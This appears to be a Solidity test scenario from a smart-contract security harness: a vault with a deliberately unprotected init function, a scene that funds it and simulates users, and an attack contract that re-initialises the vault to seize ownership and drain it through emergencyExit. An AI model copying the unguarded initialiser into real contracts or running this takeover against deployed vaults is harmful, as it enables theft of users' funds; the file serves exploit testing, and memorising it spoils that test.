// SPDX-License-Identifier: MIT OR Apache-2.0
pragma solidity 0.8.35;

import "./Common.sol";

/// May be initialised again by anybody.
contract InitVault {
    address public owner;
    IERC20 public asset;
    mapping(address => uint256) public balanceOf;

    event Initialized(address owner);
    event Deposit(address indexed who, uint256 amount);
    event Withdraw(address indexed who, uint256 amount);

    function init(address owner_, IERC20 asset_) external {
        (owner, asset) = (owner_, asset_);
        emit Initialized(owner_);
    }

    function deposit(uint256 amount) external {
        asset.transferFrom(msg.sender, address(this), amount);
        balanceOf[msg.sender] += amount;
        emit Deposit(msg.sender, amount);
    }

    function withdraw(uint256 amount) external {
        balanceOf[msg.sender] -= amount;
        asset.transfer(msg.sender, amount);
        emit Withdraw(msg.sender, amount);
    }

    function emergencyExit(address to, uint256 amount) external {
        require(msg.sender == owner, "owner");
        asset.transfer(to, amount);
    }
}

contract UnprotectedInitScene is Scene {
    Token public usd;
    InitVault public vault = new InitVault();

    constructor(Bank b, address t, address s) payable Scene(b, t, s) {
        usd = _usd();
        vault.init(address(this), IERC20(address(usd)));
        usd.mint(address(vault), 2_000_000e18);
        _protect(address(vault));
        loot0 = IERC20(address(usd));
    }

    function enrol(address[] calldata users) external override {
        _arm(usd, users, 1_000_000e18, address(vault));
    }

    function menu(address who, uint256 dice) external view override returns (address, uint256, bytes memory) {
        uint256 held = vault.balanceOf(who);
        if (held > 0 && dice >> 200 & 1 == 0) return (address(vault), 0, abi.encodeCall(InitVault.withdraw, (held)));
        return (address(vault), 0, abi.encodeCall(InitVault.deposit, (_amount(dice, 100e18, 20_000e18))));
    }
}

contract UnprotectedInitAttack is Attack {
    InitVault private immutable vault;

    constructor(UnprotectedInitScene scene) Attack(scene) {
        vault = scene.vault();
    }

    function _act(uint256, uint256 index, uint256 count) internal override {
        vault.init(address(this), loot0);
        vault.emergencyExit(address(this), loot0.balanceOf(address(vault)) / (count - index));
    }
}
